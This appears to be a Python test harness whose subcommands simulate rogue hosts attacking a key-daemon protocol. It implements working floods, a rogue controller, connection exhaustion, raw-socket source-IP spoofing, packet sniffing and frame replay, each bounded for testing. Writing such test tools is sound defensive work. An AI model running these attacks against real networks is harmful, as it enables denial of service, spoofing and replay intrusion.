"""What the rogue hosts of the multi-host tests do: each subcommand is one attack, bounded in count
and time, and stops by itself.

  rogue.py broadcast CERT KEY ADDR PORT TYPE BODY SECONDS
      every 0.3 s, a signed TYPE carrying BODY (JSON) from CERT's device to ADDR:PORT
  rogue.py flood CERT KEY ADDR PORT TYPE BODY COUNT AHEAD
      COUNT valid signed messages as fast as they can be made, stamped AHEAD seconds in the future
  rogue.py insider CERT KEY BCAST SECONDS ON OFF
      a controller-role device playing controller in bursts: ON seconds of heartbeats and
      answers to every IS_THERE_CONTROLLER heard, then OFF seconds of silence, over and over
  rogue.py idle SECONDS ADDR...
      64 idle TCP connections to keyd at each ADDR, each reopened as soon as it is closed
  rogue.py spoof ADDR PORT COUNT NET16
      COUNT junk UDP datagrams to ADDR:PORT, each from another source address in NET16.0.0/16
  rogue.py sniff IFACE FROM PORT TYPE OUT SECONDS
      watch IFACE for TCP from FROM to PORT, and write the first whole frame carrying an envelope
      of TYPE to OUT
  rogue.py replay FILE ADDR PORT SECONDS
      send the frame in FILE to ADDR:PORT on a new connection every 50 ms
"""
import json
import os
import select
import socket
import struct
import sys
import time

from envelope import Device, open_signed


def cmd_broadcast(cert, key, addr, port, type_, body, seconds):
    dev = Device(cert, key)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    end = time.time() + float(seconds)
    while time.time() < end:
        s.sendto(dev.seal(type_, json.loads(body)), (addr, int(port)))
        time.sleep(0.3)


def cmd_flood(cert, key, addr, port, type_, body, count, ahead):
    dev = Device(cert, key)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for _ in range(int(count)):
        wire = dev.seal(type_, json.loads(body), ts=int(time.time()) + int(ahead))
        s.sendto(wire, (addr, int(port)))
    print("sent", count, flush=True)


def cmd_insider(cert, key, bcast, seconds, on, off):
    dev = Device(cert, key)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("0.0.0.0", 7450))
    end = time.time() + float(seconds)
    while time.time() < end:
        burst_end = min(end, time.time() + float(on))
        beat = 0.0
        while time.time() < burst_end:
            if time.time() >= beat:
                s.sendto(dev.seal("I_AM_CONTROLLER", {}), (bcast, 7450))
                beat = time.time() + 0.3
            if select.select([s], [], [], 0.05)[0]:
                data, _ = s.recvfrom(65536)
                try:
                    m = open_signed(data)
                except (ValueError, KeyError):
                    continue
                if m.get("type") == "IS_THERE_CONTROLLER" and m.get("from") != dev.name:
                    answer = {"answer": m["body"]["challenge"]}
                    s.sendto(dev.seal("I_AM_CONTROLLER", answer), (bcast, 7450))
        quiet_end = min(end, time.time() + float(off))
        while time.time() < quiet_end:
            if select.select([s], [], [], 0.05)[0]:
                s.recvfrom(65536)  # heard, not answered


def cmd_idle(seconds, *addrs):
    conns = {a: [] for a in addrs}
    end = time.time() + float(seconds)
    while time.time() < end:
        for a, live in conns.items():
            kept = []
            for c in live:
                r, _, _ = select.select([c], [], [], 0)
                if r:
                    try:
                        gone = c.recv(1) == b""
                    except OSError:
                        gone = True
                    if gone:
                        c.close()
                        continue
                kept.append(c)
            while len(kept) < 64:
                c = socket.socket()
                c.settimeout(0.2)
                try:
                    c.connect((a, 7451))
                except OSError:
                    c.close()
                    break
                kept.append(c)
            conns[a] = kept
        time.sleep(0.05)


def _checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def cmd_spoof(addr, port, count, net16):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    a, b = (int(x) for x in net16.split("."))
    dst = socket.inet_aton(addr)
    payload = b"junk that is no envelope"
    for i in range(int(count)):
        src = bytes([a, b, 1 + i // 250, 1 + i % 250])
        udp_len = 8 + len(payload)
        pseudo = src + dst + struct.pack("!BBH", 0, 17, udp_len)
        udp = struct.pack("!HHHH", 40000 + i % 1000, int(port), udp_len, 0) + payload
        udp = udp[:6] + struct.pack("!H", _checksum(pseudo + udp)) + udp[8:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, i & 0xFFFF, 0, 64, 17, 0,
                         src, dst)
        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
        s.sendto(ip + udp, (addr, 0))
        if i % 200 == 199:
            time.sleep(0.01)  # let the receiver's socket buffer drain
    print("sent", count, flush=True)


def cmd_sniff(iface, from_addr, port, type_, out, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((iface, 0))
    src = socket.inet_aton(from_addr)
    streams = {}  # source port -> [next seq, bytes]
    end = time.time() + float(seconds)
    while time.time() < end:
        if not select.select([s], [], [], 0.2)[0]:
            continue
        pkt = s.recv(65536)
        if len(pkt) < 34 or pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 6 or ip[12:16] != src:
            continue
        tcp = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        data = tcp[(tcp[12] >> 4) * 4:]
        if dport != int(port):
            continue
        if tcp[13] & 0x02:  # SYN: the stream starts after it
            streams[sport] = [(seq + 1) & 0xFFFFFFFF, b""]
            continue
        st = streams.get(sport)
        if st is None or seq != st[0] or not data:
            continue
        st[0] = (seq + len(data)) & 0xFFFFFFFF
        st[1] += data
        buf = st[1]
        while len(buf) >= 4 and len(buf) >= 4 + struct.unpack("!I", buf[:4])[0]:
            n = struct.unpack("!I", buf[:4])[0]
            frame, buf = buf[:4 + n], buf[4 + n:]
            if open_signed(frame[4:]).get("type") == type_:
                with open(out + ".tmp", "wb") as f:
                    f.write(frame)
                os.rename(out + ".tmp", out)
                return
        st[1] = buf
    sys.exit("nothing of type %s seen" % type_)


def cmd_replay(path, addr, port, seconds):
    with open(path, "rb") as f:
        frame = f.read()
    end = time.time() + float(seconds)
    sent = 0
    while time.time() < end:
        try:
            with socket.create_connection((addr, int(port)), timeout=0.5) as c:
                c.sendall(frame)
                sent += 1
        except OSError:
            pass
        time.sleep(0.05)
    print("replayed", sent, flush=True)


if __name__ == "__main__":
    globals()["cmd_" + sys.argv[1]](*sys.argv[2:])
